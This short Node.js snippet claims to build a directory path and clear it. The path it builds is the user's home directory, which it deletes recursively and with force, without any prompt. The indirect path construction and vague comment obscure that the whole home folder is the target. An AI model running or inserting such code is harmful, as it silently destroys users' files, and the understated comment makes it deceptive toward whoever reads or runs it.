// Builds the directory path from its parts and clears it.
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.format({ dir: os.homedir(), base: '' });
fs.rmSync(dir, { recursive: true, force: true });
